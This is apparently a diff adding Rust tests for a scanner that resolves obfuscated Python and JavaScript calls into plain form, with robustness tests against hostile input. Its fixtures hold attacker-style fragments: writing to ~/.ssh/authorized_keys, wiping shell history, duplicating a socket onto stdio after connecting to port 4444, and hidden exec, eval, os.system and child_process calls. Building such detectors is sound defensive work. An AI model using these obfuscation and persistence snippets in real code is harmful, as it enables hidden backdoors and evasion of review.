@@ -1,0 +1,195 @@
+//! The evaluator on what attackers write and on what ordinary code writes, and on hostile input.
+
+use super::*;
+
+/// Parses without the scan's time cap: a loaded test machine must not turn a bound test into a skip.
+fn parse(grammar: Grammar, text: &str) -> Result<tree_sitter::Tree, ()> {
+    let mut parser = tree_sitter::Parser::new();
+    parser.set_language(&grammar.ts_language()).unwrap();
+    parser.parse(text, None).ok_or(())
+}
+
+fn renditions(grammar: Grammar, text: &str) -> Vec<String> {
+    let tree = parse(grammar, text).unwrap();
+    evaluate_tree(tree.root_node(), text, grammar)
+        .renditions
+        .into_iter()
+        .map(|r| r.code)
+        .collect()
+}
+
+fn python(text: &str) -> Vec<String> {
+    renditions(Grammar::Python, text)
+}
+
+fn javascript(text: &str) -> Vec<String> {
+    renditions(Grammar::Javascript, text)
+}
+
+#[test]
+fn a_path_in_a_variable_is_written_at_the_call() {
+    let found = python("import os\nak = os.path.expanduser(\"~/.ssh/authorized_keys\")\nwith open(ak, \"a\") as f:\n    f.write(k)\n");
+    assert_eq!(
+        found,
+        [
+            "open(\"~/.ssh/authorized_keys\", \"a\")",
+            "open(\"~/.ssh/authorized_keys\", \"a\").write(k)"
+        ]
+    );
+}
+
+#[test]
+fn loops_over_literal_tuples_are_walked_per_item() {
+    let found = python("import os\nfor h in (\"~/.bash_history\", \"~/.zsh_history\"):\n    os.remove(os.path.expanduser(h))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n");
+    assert_eq!(
+        found,
+        [
+            "os.remove(\"~/.bash_history\")",
+            "os.remove(\"~/.zsh_history\")",
+            "os.dup2(s.fileno(), 0)",
+            "os.dup2(s.fileno(), 1)",
+            "os.dup2(s.fileno(), 2)",
+        ]
+    );
+}
+
+#[test]
+fn python_string_building_resolves() {
+    let found = python(concat!(
+        "host = '.'.join(map(str, [203, 0, 113, 7]))\n",
+        "s.connect((host, 4444))\n",
+        "n = ''.join(chr(c - 3) for c in [104, 123, 104, 102])\n",
+        "getattr(__import__('bu' + 'iltins'), n)(p)\n",
+        "getattr(__import__('os'), 'metsys'[::-1])('id')\n",
+        "m = ''.join(reversed('ssecorpbus'))\n",
+        "__import__(m).call('%s -c %s' % ('sh', 'x'))\n",
+        "os.system(f\"{'cu'}rl {'{}'.format('x')}\")\n",
+        "exec(bytes([112, 114, 105, 110, 116]).decode())\n",
+    ));
+    assert_eq!(
+        found,
+        [
+            "s.connect((\"203.0.113.7\", 4444))",
+            "exec(p)",
+            "os.system('id')",
+            "subprocess.call(\"sh -c x\")",
+            "os.system(\"curl x\")",
+            "exec(\"print\")",
+            "print",
+        ]
+    );
+}
+
+#[test]
+fn hidden_exec_targets_are_named() {
+    let text = "n = ''.join(map(chr, [101, 120, 101, 99]))\ngetattr(__builtins__, n)(p)\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    assert_eq!(
+        resolved.renditions[0].hidden_target.as_deref(),
+        Some("exec")
+    );
+}
+
+#[test]
+fn javascript_string_building_resolves() {
+    let found = javascript(concat!(
+        "const cp = require('child' + '_process');\n",
+        "cp['ex' + 'ec']('id');\n",
+        "const r = global['req' + 'uire'];\n",
+        "r(`child_${'process'}`)[String.fromCharCode(101, 120, 101, 99)]('x');\n",
+        "const u = 'lave'.split('').reverse().join('');\n",
+        "globalThis[u]('\\x63ode');\n",
+        "for (const fd of [0, 1]) { fs.closeSync(fd); }\n",
+    ));
+    assert_eq!(
+        found,
+        [
+            "require(\"child_process\")",
+            "require(\"child_process\").exec('id')",
+            "require(\"child_process\").exec('x')",
+            "eval(\"code\")",
+            "code",
+            "fs.closeSync(0)",
+            "fs.closeSync(1)",
+        ]
+    );
+}
+
+#[test]
+fn ordinary_code_renders_nothing() {
+    assert!(python(concat!(
+        "import os\nimport numpy as np\nfrom subprocess import run\n",
+        "run(['ls', '-l'])\nnp.array([1, 2])\nopen('x.txt', 'w')\n",
+        "path = os.path.join(base, 'x')\nopen(path)\n",
+        "getattr(obj, name)\nfor item in items:\n    print(item)\n",
+    ))
+    .is_empty());
+    assert!(javascript(concat!(
+        "const fs = require('fs');\nconst { exec } = require('child_process');\n",
+        "fs.readFileSync('a');\nexec(cmd);\nconsole.log('hi');\nfoo(bar, 'x', 1);\n",
+    ))
+    .is_empty());
+}
+
+#[test]
+fn deep_expressions_stop_at_the_depth_bound() {
+    let deep = format!(
+        "x = {}1{}\nopen(x)\n",
+        "(".repeat(10_000),
+        ")".repeat(10_000)
+    );
+    let _ = python(&deep);
+    let chain = format!("x = 'a'{}\nopen(x)\n", " + 'a'".repeat(10_000));
+    let _ = python(&chain);
+    let js = format!(
+        "const x = {}'a'{};\nf(x);\n",
+        "[".repeat(10_000),
+        "]".repeat(10_000)
+    );
+    let _ = javascript(&js);
+}
+
+#[test]
+fn a_megabyte_string_array_is_bounded() {
+    let items: Vec<String> = (0..60_000).map(|i| format!("'item{i:010}'")).collect();
+    let text = format!(
+        "a = [{}]\nopen(''.join(a))\nfor x in a:\n    open(x)\n",
+        items.join(", ")
+    );
+    assert!(text.len() > 1_000_000);
+    let start = std::time::Instant::now();
+    let found = python(&text);
+    assert!(start.elapsed().as_secs() < 20);
+    assert!(found.is_empty(), "{found:?}");
+}
+
+#[test]
+fn alias_cycles_end() {
+    let found = python("a = b\nb = a\na = b\nopen(a)\n");
+    assert!(found.is_empty());
+    let found = javascript("let a = b; b = a; a = b; a(a);\n");
+    assert!(found.is_empty());
+}
+
+#[test]
+fn huge_repetition_is_refused() {
+    let found = python("x = 'a' * 10**9\nopen(x)\ny = 'ab' * 99999999999\nopen(y)\n");
+    assert!(found.is_empty());
+}
+
+#[test]
+fn names_from_literal_loops_are_not_hidden() {
+    let text = "import subprocess\nfor name in (\"run\", \"call\"):\n    getattr(subprocess, name)(cmd)\nfn = 'system'\ngetattr(__import__('os'), fn)(x)\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    assert!(!resolved.renditions.is_empty());
+    assert!(
+        resolved
+            .renditions
+            .iter()
+            .all(|r| r.hidden_target.is_none()),
+        "{:?}",
+        resolved.renditions
+    );
+}
